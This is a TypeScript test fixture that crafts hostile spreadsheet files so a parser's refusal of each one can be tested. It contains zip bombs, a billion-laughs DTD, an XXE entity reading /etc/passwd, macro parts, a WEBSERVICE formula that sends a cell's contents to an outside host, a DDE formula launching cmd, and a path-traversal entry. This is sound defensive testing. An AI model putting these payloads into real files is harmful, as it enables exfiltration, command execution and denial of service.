// Hostile workbooks, made in memory: each must be refused with the AnswersError code named, quickly, and nothing in it
// evaluated or followed. Used by test/fuzz/attacks.test.ts and timed by bench/xlsx-refusals.ts.
import { crc32 as zlibCrc32, inflateRawSync } from 'node:zlib';
import { deflate, oneSheet, sheetData, workbookOf, zipParts } from './helpers.js';
import type { ParseAnswersXlsxOptions } from '../../src/xlsx/index.js';

const HEADER = ['organisation_id', 'respondent_id', 'T1.C1'];
const ROWS = [HEADER, ['wessex', 'r1', 3]];

/** One entry of a ZIP archive made by hand: what it holds, and what its headers claim. */
interface CraftedEntry {
  readonly name: string;
  /** The bytes stored (compressed or not, as `method` says). */
  readonly data: Uint8Array;
  readonly method: 0 | 8;
  /** The uncompressed size the headers claim. */
  readonly size: number;
  readonly crc: number;
}

/** A ZIP archive written byte by byte, so that its headers can claim what they like. */
export function craftZip(entries: readonly CraftedEntry[]): Uint8Array {
  const chunks: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = new TextEncoder().encode(entry.name);
    const local = new Uint8Array(30 + name.length);
    const view = new DataView(local.buffer);
    view.setUint32(0, 0x04034b50, true);
    view.setUint16(4, 20, true);
    view.setUint16(8, entry.method, true);
    view.setUint32(14, entry.crc, true);
    view.setUint32(18, entry.data.length, true);
    view.setUint32(22, entry.size, true);
    view.setUint16(26, name.length, true);
    local.set(name, 30);
    const record = new Uint8Array(46 + name.length);
    const directory = new DataView(record.buffer);
    directory.setUint32(0, 0x02014b50, true);
    directory.setUint16(4, 20, true);
    directory.setUint16(6, 20, true);
    directory.setUint16(10, entry.method, true);
    directory.setUint32(16, entry.crc, true);
    directory.setUint32(20, entry.data.length, true);
    directory.setUint32(24, entry.size, true);
    directory.setUint16(28, name.length, true);
    directory.setUint32(42, offset, true);
    record.set(name, 46);
    chunks.push(local, entry.data);
    central.push(record);
    offset += local.length + entry.data.length;
  }
  const directorySize = central.reduce((sum, record) => sum + record.length, 0);
  const end = new Uint8Array(22);
  const view = new DataView(end.buffer);
  view.setUint32(0, 0x06054b50, true);
  view.setUint16(8, entries.length, true);
  view.setUint16(10, entries.length, true);
  view.setUint32(12, directorySize, true);
  view.setUint32(16, offset, true);
  const all = [...chunks, ...central, end];
  const out = new Uint8Array(all.reduce((sum, chunk) => sum + chunk.length, 0));
  let at = 0;
  for (const chunk of all) {
    out.set(chunk, at);
    at += chunk.length;
  }
  return out;
}

/** The parts of a valid small workbook, to be changed by the hostile ones. */
function parts(): Record<string, string | Uint8Array> {
  const names = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];
  const bytes = oneSheet(ROWS);
  const found: Record<string, string> = {};
  // Read back what workbookOf wrote, through Node's zlib: the test's own view of the parts.
  for (const name of names) found[name] = partText(bytes, name);
  return found;
}

/** The text of a part of a ZIP archive written by zipParts (read with the DataView, inflated with Node's zlib). */
function partText(bytes: Uint8Array, wanted: string): string {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let at = 0;
  while (view.getUint32(at, true) === 0x04034b50) {
    const compressed = view.getUint32(at + 18, true);
    const nameLength = view.getUint16(at + 26, true);
    const extra = view.getUint16(at + 28, true);
    const name = new TextDecoder().decode(bytes.subarray(at + 30, at + 30 + nameLength));
    const start = at + 30 + nameLength + extra;
    if (name === wanted) return new TextDecoder().decode(inflateRaw(bytes.subarray(start, start + compressed)));
    at = start + compressed;
  }
  throw new Error(`no part ${wanted}`);
}

function inflateRaw(bytes: Uint8Array): Uint8Array {
  return new Uint8Array(inflateRawSync(bytes));
}

function crc32(bytes: Uint8Array): number {
  return zlibCrc32(bytes) >>> 0;
}

/** A hostile workbook: its name, its bytes, the options it is read with, and the code it must be refused with. */
export interface HostileWorkbook {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly options?: Partial<ParseAnswersXlsxOptions>;
  readonly code: string;
}

const BILLION_LAUGHS = (() => {
  let dtd = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
  return `<!DOCTYPE sst [${dtd}]>`;
})();

/** A sheet whose one cell holds `length` zeros: it deflates to about a thousandth of that. */
function zeroSheet(length: number): Uint8Array {
  const head = new TextEncoder().encode(
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
  );
  const tail = new TextEncoder().encode('</t></is></c></row></sheetData></worksheet>');
  const sheet = new Uint8Array(head.length + length + tail.length).fill(0x30);
  sheet.set(head);
  sheet.set(tail, head.length + length);
  return sheet;
}

/** A valid workbook's parts, re-zipped by hand with one part replaced by a crafted entry. */
function withCrafted(entry: CraftedEntry): Uint8Array {
  const all = parts();
  const entries: CraftedEntry[] = Object.entries(all).map(([name, body]) => {
    const data = typeof body === 'string' ? new TextEncoder().encode(body) : body;
    return name === entry.name ? entry : { name, data: deflate(data), method: 8, size: data.length, crc: crc32(data) };
  });
  return craftZip(entries);
}

/** Every hostile workbook, made fresh. */
export function hostileWorkbooks(): readonly HostileWorkbook[] {
  const base = parts();
  const sheet = base['xl/worksheets/sheet1.xml'] as string;
  const strings = base['xl/sharedStrings.xml'] as string;
  const bomb50 = zeroSheet(50 * 1024 * 1024);
  const bomb50Deflated = deflate(bomb50);
  const lying = zeroSheet(10 * 1024 * 1024);
  const lyingDeflated = deflate(lying);
  const ole = (stream: string) => {
    const bytes = new Uint8Array(1536);
    bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    for (let index = 0; index < stream.length; index++) bytes[1024 + 2 * index] = stream.charCodeAt(index);
    return bytes;
  };
  const whole = zipParts(base);
  const sheets = (count: number) => workbookOf({ sheets: Array.from({ length: count }, (_value, index) => ({ name: `S${index + 1}`, xml: sheetData(ROWS) })) });
  const header =
    '<row r="1"><c r="A1" t="inlineStr"><is><t>organisation_id</t></is></c><c r="B1" t="inlineStr"><is><t>respondent_id</t></is></c><c r="XFD1" t="inlineStr"><is><t>T1.C1</t></is></c></row>';
  const farCells = `<sheetData>${header}${Array.from({ length: 2000 }, (_value, index) => `<row r="${index + 2}"><c r="XFD${index + 2}"><v>1</v></c></row>`).join('')}</sheetData>`;
  const manyRows = `<sheetData>${Array.from({ length: 200 }, (_value, index) => `<row r="${index + 1}"><c r="A${index + 1}"><v>1</v></c></row>`).join('')}</sheetData>`;
  const formula = (f: string) => sheet.replace('<c r="C2"><v>3</v></c>', `<c r="C2"><f>${f}</f><v>3</v></c>`);
  return [
    // Zip bombs.
    {
      name: 'a part that claims 150 MB, 94 times its compressed size (never inflated)',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(1_600_000).fill(0x5a), method: 8, size: 150 * 1024 * 1024, crc: 0 }),
      code: 'inflation-limit',
    },
    {
      name: 'a part that claims 400 MB, 1,000 times its compressed size (never inflated)',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(420_000).fill(0x5a), method: 8, size: 400 * 1024 * 1024, crc: 0 }),
      code: 'zip-bomb',
    },
    { name: 'a 50 MB cell of zeros in a 50 kB file (a ratio of 1,000 to 1)', bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': bomb50 }), code: 'zip-bomb' },
    { name: 'a small workbook under maxUncompressedBytes 1,000 (never inflated)', bytes: whole, options: { maxUncompressedBytes: 1000 }, code: 'inflation-limit' },
    {
      name: 'a part that claims 2,000 bytes but inflates to 10 MB',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: lyingDeflated, method: 8, size: 2000, crc: 0 }),
      code: 'zip-bomb',
    },
    {
      name: 'a part that claims more than DEFLATE can give',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: bomb50Deflated.subarray(0, 1000), method: 8, size: 200 * 1024 * 1024, crc: 0 }),
      code: 'zip-bomb',
    },
    // XML.
    {
      name: 'billion laughs (entities in a DTD)',
      bytes: zipParts({ ...base, 'xl/sharedStrings.xml': strings.replace('?>', `?>${BILLION_LAUGHS}`).replace('<sst', '<sst') }),
      code: 'xml-doctype',
    },
    {
      name: 'an external entity (XXE)',
      bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': sheet.replace('?>', '?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }),
      code: 'xml-doctype',
    },
    { name: 'an entity that is not declared', bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': sheet.replace('>wessex<', '>&nbsp;wessex<') }), code: 'invalid-workbook' },
    // Macros.
    {
      name: 'a VBA project (.xlsm)',
      bytes: zipParts({ ...base, 'xl/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) }),
      code: 'macro-workbook',
    },
    {
      name: 'a macro-enabled content type',
      bytes: zipParts({ ...base, '[Content_Types].xml': (base['[Content_Types].xml'] as string).replace('sheet.main+xml', 'sheet.macroEnabled.main+xml') }),
      code: 'macro-workbook',
    },
    { name: 'an Excel 4.0 macro sheet', bytes: zipParts({ ...base, 'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="x"/>' }), code: 'macro-workbook' },
    // Links outside.
    {
      name: 'a link to another workbook',
      bytes: zipParts({
        ...base,
        'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        'xl/externalLinks/_rels/externalLink1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>',
      }),
      code: 'external-link',
    },
    {
      name: 'an image fetched from the web',
      bytes: zipParts({
        ...base,
        'xl/drawings/_rels/drawing1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://tracker.example/pixel.png" TargetMode="External"/></Relationships>',
      }),
      code: 'external-link',
    },
    { name: 'a WEBSERVICE formula', bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': formula('_xlfn.WEBSERVICE("https://example.org/?"&amp;A2)') }), code: 'external-link' },
    { name: 'a DDE formula', bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': formula("cmd|' /C calc'!A0") }), code: 'external-link' },
    { name: 'a formula reading another workbook', bytes: zipParts({ ...base, 'xl/worksheets/sheet1.xml': formula('[1]Sheet1!A1') }), code: 'external-link' },
    // Not workbooks.
    { name: 'an encrypted workbook (OLE, EncryptedPackage)', bytes: ole('EncryptedPackage'), code: 'encrypted-workbook' },
    { name: 'a legacy .xls workbook (OLE)', bytes: ole('Workbook'), code: 'not-a-workbook' },
    { name: 'a download cut short', bytes: whole.subarray(0, whole.length >> 1), code: 'not-a-workbook' },
    { name: 'an OpenDocument spreadsheet', bytes: zipParts({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<x/>' }), code: 'not-a-workbook' },
    // A broken archive.
    { name: 'a part named ../../evil.xml', bytes: zipParts({ ...base, '../../evil.xml': '<x/>' }), code: 'invalid-workbook' },
    { name: 'two parts of the same name, in other cases', bytes: zipParts({ ...base, 'XL/WORKBOOK.XML': base['xl/workbook.xml'] as string }), code: 'invalid-workbook' },
    {
      name: 'a wrong checksum',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: deflate(new TextEncoder().encode(sheet)), method: 8, size: new TextEncoder().encode(sheet).length, crc: 12345 }),
      code: 'invalid-workbook',
    },
    {
      name: 'a ZIP64 size without its extra field (fflate CVE-2026-45820)',
      bytes: withCrafted({ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(10), method: 8, size: 0xffffffff, crc: 0 }),
      code: 'invalid-workbook',
    },
    // Limits.
    { name: '201 sheets', bytes: sheets(201), code: 'too-many-sheets' },
    { name: '3 sheets under maxSheets 2', bytes: sheets(3), options: { maxSheets: 2 }, code: 'too-many-sheets' },
    { name: '200 rows under maxRows 100', bytes: workbookOf({ sheets: [{ name: 'S', xml: manyRows }] }), options: { maxRows: 100 }, code: 'too-many-rows' },
    { name: 'a header and 2,000 rows reaching column XFD', bytes: workbookOf({ sheets: [{ name: 'S', xml: farCells }] }), code: 'too-many-cells' },
    { name: 'input over maxBytes', bytes: whole, options: { maxBytes: 100 }, code: 'too-large' },
  ];
}
